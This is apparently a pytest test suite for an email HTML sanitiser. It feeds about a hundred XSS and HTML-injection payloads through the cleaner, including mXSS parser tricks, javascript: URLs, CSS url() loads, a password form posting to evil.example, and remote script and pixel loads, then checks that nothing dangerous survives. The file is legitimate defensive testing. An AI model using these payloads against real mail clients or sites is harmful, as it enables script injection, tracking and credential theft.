"""Mail HTML after cleaning: parsed again by another parser, nothing in it may run, load, submit or lead astray."""

from __future__ import annotations

import re
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser

from connectors.mail.html import CleanHtml, clean_html, clean_style

OWN = "/mail/inline/"
NAMES = (
    "a abbr address article b bdo big blockquote br caption center cite code col colgroup dd del dfn div dl dt em"
    " figcaption figure font footer h1 h2 h3 h4 h5 h6 header hr i img ins kbd li main mark ol p pre q s samp section"
    " small span strike strong sub sup table tbody td tfoot th thead tr tt u ul wbr"
)
TAGS_THAT_MAY_STAY = frozenset(NAMES.split())
DANGEROUS_STYLE = re.compile(r"url|var\(|expression|position|@|\\|javascript|/\*|<|behavior|binding|attr\(|image", re.I)


def clean(html: str, **options: Any) -> CleanHtml:
    return clean_html(html, cid_url=lambda cid: OWN + cid if cid == "logo@x" else None, **options)


def faults(html: str) -> list[str]:
    """What an HTML parser finds in cleaned mail that must not be there."""
    found = []
    top = LexborHTMLParser(html).body
    waiting = [top] if top is not None else []
    while waiting:
        node = waiting.pop()
        child = node.first_child
        while child is not None:
            if child.tag == "-comment":
                found.append("comment")
            elif child.is_element_node:
                waiting.append(child)
            child = child.next
        if node is top:
            continue
        if node.tag not in TAGS_THAT_MAY_STAY:
            found.append(f"<{node.tag}>")
        for name, value in node.attributes.items():
            found += _attribute_faults(node.tag, name, value or "")
    return found


def _attribute_faults(tag: str, name: str, value: str) -> list[str]:
    if name.startswith("on") or name in ("id", "name", "class", "srcset", "background", "action", "ping", "xlink:href"):
        return [name]
    if name == "href" and not value.strip().lower().startswith(("http://", "https://", "mailto:", "tel:")):
        return [f"href={value}"]
    if name == "src" and not value.startswith((OWN, "data:image/")):
        return [f"src={value}"]
    if name == "style" and DANGEROUS_STYLE.search(value):
        return [f"style={value}"]
    if tag == "a" and name == "target" and value != "_blank":
        return ["target"]
    return []


VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img/src=x/onerror=alert(1)>",
    "<img src=\"x\"onerror=\"alert(1)\">",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><image href=https://evil.example/x fill=url(https://evil.example/y)></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>1</script>'></iframe></foreignObject></svg>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<title><img src=x onerror=alert(1)></title>",
    "<style>@import url(https://evil.example/x.css);</style>",
    "<style>*{background:url(https://evil.example/x)}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html,<script>alert(1)</script>></object>",
    "<embed src=https://evil.example/x.swf>",
    "<applet code=x></applet>",
    "<video poster=https://evil.example/x><source src=https://evil.example/y></video>",
    "<audio src=https://evil.example autoplay onplay=alert(1)>",
    "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input type=image src=https://evil.example/x>",
    "<isindex action=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=JaVaScRiPt:alert(1)>x</a>",
    "<a href='java&#x09;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' &#1;javascript:alert(1)'>x</a>",
    "<a href=vbscript:x>x</a>",
    "<a href=data:text/html;base64,PHNjcmlwdD4=>x</a>",
    "<a href=blob:https://x/y>x</a>",
    "<a href=file:///etc/passwd>x</a>",
    "<a href=//evil.example>x</a>",
    "<a href=/admin/delete>x</a>",
    "<a href=?logout>x</a>",
    "<a href=#top>x</a>",
    "<a href=ftp://evil.example>x</a>",
    "<a href=cid:logo@x>x</a>",
    "<a href=https://ok.example target=_top rel=opener ping=https://evil.example>x</a>",
    "<img src=https://evil.example/pixel.gif>",
    "<img src=HTTPS://evil.example/pixel.gif>",
    "<img src=' &#9;https://evil.example/x'>",
    "<img src=//evil.example/pixel.gif>",
    "<img src=/internal/pixel.gif>",
    "<img src=pixel.gif>",
    "<img srcset='https://evil.example/x 2x' src=cid:logo@x>",
    "<img lowsrc=https://evil.example dynsrc=https://evil.example>",
    "<img src=data:image/svg+xml;base64,PHN2Zz4=>",
    "<img src='data:image/png;base64,AA&quot;onerror=&quot;x'>",
    "<img src=data:text/html,x>",
    "<img src=cid:unknown@x>",
    "<feImage href=https://evil.example/x>",
    "<table background=https://evil.example/x><tr><td background=https://evil.example/y>x</table>",
    "<body background=https://evil.example/x>",
    "<p style='background:url(https://evil.example/x)'>x</p>",
    "<p style='background-image:image-set(\"https://evil.example/x\" 1x)'>x</p>",
    "<p style='color:var(--x,url(//evil.example))'>x</p>",
    "<p style='--x:url(https://evil.example)'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p style='behavior:url(x.htc);-moz-binding:url(x)'>x</p>",
    "<p style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999'>x</p>",
    "<p style='margin-top:-9999px;color:red'>x</p>",
    "<p style='col\\6fr:red;background:u\\72l(//evil.example)'>x</p>",
    "<p style='color:red;}</style><script>alert(1)</script>'>x</p>",
    "<p style='font-family:\"</style><script>\"'>x</p>",
    "<p style='background:/**/url/**/(//evil.example)'>x</p>",
    "<p style='list-style:url(//evil.example);content:url(//evil.example);cursor:url(//evil.example),auto'>x</p>",
    "<p style='filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src=//evil.example)'>x</p>",
    "<div id=getElementById name=cookie class=app-danger>x</div>",
    "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
    "<p title='<img src=x onerror=alert(1)>'>x</p>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<img src=x:alert(1) onerror=eval(src) alt=x>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<img \x00src=x \x00onerror=alert(1)>",
    "<noembed><img title=\"</noembed><img src onerror=alert(1)>\"></noembed>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<a xlink:href=javascript:alert(1) href=https://ok.example>x</a>",
    "<a href=\"https://ok.example\" style=\"display:block;position:absolute;inset:0\">x</a>",
]  # fmt: skip


@pytest.mark.parametrize("vector", VECTORS)
def test_f74_f75_nothing_runs_loads_or_submits_after_cleaning(vector: str) -> None:
    for html in (vector, f"<div>before {vector} after</div>", f"<table><tr><td>{vector}", vector * 3):
        cleaned = clean(html)
        assert faults(cleaned.html) == [], cleaned.html


@pytest.mark.parametrize("vector", VECTORS)
def test_f74_cleaning_twice_changes_nothing_more(vector: str) -> None:
    once = clean(vector).html.replace(OWN, "cid:")
    twice = clean(once).html.replace(OWN, "cid:")
    # nh3 writes rel and target in either order
    assert sorted(re.findall(r"[^\s<>]+", twice)) == sorted(re.findall(r"[^\s<>]+", once))


@given(st.lists(st.sampled_from(VECTORS) | st.text(alphabet="<>/='\" !-abc\x00", max_size=20), max_size=6))
def test_f74_vectors_mixed_with_noise_stay_clean(pieces: list[str]) -> None:
    assert faults(clean("".join(pieces)).html) == []


def test_what_a_mail_needs_stays() -> None:
    html = (
        '<p style="color: #333; font-family: Arial, sans-serif; margin: 0 0 10px">Dear <b>Sari</b></p>'
        '<a href="https://toko.example/t?a=1&amp;b=2">track</a> <a href="mailto:a@b.example">mail</a>'
        '<a href="tel:+62812">call</a><table width="100%" cellpadding="4"><tr>'
        '<td bgcolor="#eee" colspan="2">x</td></tr>'
        '</table><img src="cid:logo@x" alt="Logo" width="10"><ul><li>one</li></ul>'
    )
    cleaned = clean(html).html
    for kept in (
        'style="color:#333;font-family:Arial, sans-serif;margin:0 0 10px"',
        'href="https://toko.example/t?a=1&amp;b=2"',
        'target="_blank"',
        'rel="noopener noreferrer nofollow"',
        'href="tel:+62812"',
        f'src="{OWN}logo@x"',
        'bgcolor="#eee"',
        "<li>one</li>",
    ):
        assert kept in cleaned


def test_f75_remote_images_are_counted_and_shown_only_when_asked() -> None:
    html = "<img src=https://a.example/1><img src=http://a.example/2><img src=cid:logo@x><img src=//a.example/3>"
    blocked = clean(html)
    assert blocked.blocked_images == 2 and "a.example" not in blocked.html
    shown = clean(html, remote_url=lambda address: "/r/" + address)
    assert shown.blocked_images == 0
    assert 'src="/r/https://a.example/1"' in shown.html and "/3" not in shown.html
    assert blocked.remote_images == shown.remote_images == ("https://a.example/1", "http://a.example/2")


def test_inline_images_are_found_whatever_the_spelling() -> None:
    for source in ("cid:logo@x", "CID:logo@x", "cid:logo%40x", " cid:logo@x", "cid:&lt;logo@x&gt;"):
        assert f'src="{OWN}logo@x"' in clean(f'<img src="{source}">').html


def test_small_raster_images_inside_the_mail_stay() -> None:
    assert "data:image/png" in clean("<img src='data:image/png;base64,iVBORw0KGgo='>").html
    assert "data:" not in clean(f"<img src='data:image/png;base64,{'A' * 300_000}'>").html


@pytest.mark.parametrize(
    ("style", "expected"),
    [
        ("color:red", "color:red"),
        ("COLOR : rgb(1, 2, 3) ; width:50%", "color:rgb(1, 2, 3);width:50%"),
        ("color:red !important", "color:red !important"),
        ("background:#fff", ""),
        ("background-color:#fff", "background-color:#fff"),
        ("color:url(x)", ""),
        ("color:red;;;:;a", "color:red"),
        ("font-family:'A", ""),
        ("display:none", "display:none"),
        ("margin:-5px", ""),
        ("color:calc(1px)", ""),
        ("x" * 20_000, ""),
        ("color:red;" * 10_000, None),
    ],
)
def test_styles_keep_plain_declarations_only(style: str, expected: str | None) -> None:
    cleaned = clean_style(style)
    assert len(cleaned) <= 10_000
    if expected is not None:
        assert cleaned == expected


@pytest.mark.parametrize(
    "page",
    [
        "<div>" * 50_000,
        "<b>" * 50_000 + "words",
        "<table><tr><td>" * 20_000,
        '<div title="</div>">' * 20_000,
        "<p>" + "".join(f"<b id={n}>" for n in range(390)) + "<p>x" * 50_000,
        "<p>words</p>" * 200_000,
        "<svg>" * 50_000,
        "<dd><li>" * 50_000,
    ],
)
def test_f83_a_page_too_large_or_deep_is_shown_as_its_text(page: str) -> None:
    cleaned = clean(page)
    assert cleaned.is_text and faults(cleaned.html) == []


@pytest.mark.parametrize(
    "unit", ["<", "&", "<a ", "<!--", "<p style='", "<a href=", "</", "&#", "<p>x</p>", "<br>", "<img src=x>"]
)
def test_f83_a_megabyte_of_anything_is_cleaned(unit: str) -> None:
    """A quadratic step would run into the time-out of the suite."""
    assert faults(clean(unit * (1_000_000 // len(unit))).html) == []
